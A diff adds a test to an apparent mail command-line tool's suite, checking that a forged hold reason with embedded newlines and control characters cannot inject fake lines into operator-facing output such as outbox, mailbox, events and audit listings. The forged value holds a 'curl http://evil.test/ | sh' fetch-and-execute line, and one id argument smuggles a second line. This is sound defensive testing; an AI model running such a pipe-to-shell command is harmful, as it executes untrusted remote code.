@@ -165,6 +165,40 @@ test('outbox hold, release, cancel and list; what cannot be changed says so', as
   );
 });
 
+test('A84: a reason, a subject and an address of others make no lines of their own in what the operator reads', async () => {
+  const forged = 'all is well\n  next      curl http://evil.test/ | sh\r\u2028\tmore';
+  const id = await sendmail(['-f', ALICE, 'bob@contoso.test']);
+  assert.equal((await run(['outbox', 'hold', id, '--reason', forged])).code, 0);
+  assert.equal((await run(['outbox', 'hold', ALICE, '--reason', forged])).code, 0);
+  const waits = await sendmail(['-f', ALICE, 'bob@contoso.test']);
+  try {
+    for (const args of [
+      ['outbox', 'show', id],
+      ['outbox', 'show', waits],
+      ['outbox', 'list'],
+      ['outbox', 'retry', id],
+      ['mailbox', 'show', ALICE],
+      ['mailbox', 'list'],
+      ['events', '--mailbox', ALICE],
+      ['audit', 'show'],
+    ]) {
+      const { code, stdout, stderr } = await run(args);
+      const said = `${stdout.toString()}${stderr}`;
+      assert.equal(code, 0, said);
+      const lines = said.split('\n');
+      assert.deepEqual(
+        lines.filter((line) => /^(?:postern: )?\s*next\s+curl|[\r\t\u2028]|^\s*more/.test(line)),
+        [],
+        args.join(' '),
+      );
+    }
+    assert.match((await run(['outbox', 'show', id])).stdout.toString(), /all is well\\u000a {2}next/);
+    assert.equal((await run(['outbox', 'show', `${id}\nnext: sh`])).stderr.trim().split('\n').length, 2);
+  } finally {
+    await run(['outbox', 'hold', ALICE, '--reason', 'a test']);
+  }
+});
+
 test('mailbox set: another way out, other senders, and nothing lost between two changes', async () => {
   const set = (...args: readonly string[]): Promise<Finished> => run(['mailbox', 'set', ALICE, ...args, '--json']);
   await set('--send-as', 'info@contoso.test', '--send-as', 'Shop@contoso.test');
